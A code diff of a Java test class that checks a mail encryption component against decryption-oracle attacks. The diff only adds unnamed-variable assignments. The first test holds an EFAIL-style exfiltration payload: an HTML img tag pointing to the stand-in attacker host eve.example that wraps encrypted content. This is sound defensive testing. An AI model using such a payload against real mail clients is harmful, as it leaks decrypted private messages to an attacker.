@@ -32,21 +32,21 @@ class DecryptionOraclesTest {
     @Test
     @Attack(1)
     void aPictureAddressThatBeginsBeforeASealedPartAndEndsAfterItGetsNothing() {
-        untouched(mixed(html("<img src=\"http://eve.example/"), STOLEN, html("\">")));
+        var _ = untouched(mixed(html("<img src=\"http://eve.example/"), STOLEN, html("\">")));
     }
 
     @Test
     @Attack(5)
     void aSealedPartBesideAHarmlessTextStaysClosed() {
-        untouched(alternative(text("What's up?"), STOLEN));
-        untouched(mixed(text("What's up?"), STOLEN));
+        var _ = untouched(alternative(text("What's up?"), STOLEN));
+        var _ = untouched(mixed(text("What's up?"), STOLEN));
     }
 
     @Test
     @Attack(5)
     void aSealedLetterPassedOnBelowAHarmlessTextStaysClosed() {
-        untouched(mixed(text("What's up?"), forwarded(fromAnna(STOLEN))));
-        untouched(mixed(text("What's up?" + "\r\n".repeat(500)), forwarded(fromAnna(STOLEN))));
+        var _ = untouched(mixed(text("What's up?"), forwarded(fromAnna(STOLEN))));
+        var _ = untouched(mixed(text("What's up?" + "\r\n".repeat(500)), forwarded(fromAnna(STOLEN))));
     }
 
     @Test
